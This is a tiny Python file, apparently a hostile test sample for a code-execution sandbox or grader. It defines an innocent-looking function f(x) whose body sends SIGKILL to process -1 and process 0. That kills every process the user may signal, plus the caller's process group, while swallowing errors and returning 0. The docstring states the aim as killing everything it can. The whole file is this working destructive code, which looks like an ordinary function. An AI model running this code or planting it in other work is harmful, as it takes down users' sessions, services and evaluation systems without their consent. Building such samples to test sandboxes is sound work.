"""Kills everything that it may."""
import os
import signal


def f(x):
    for target in (-1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0
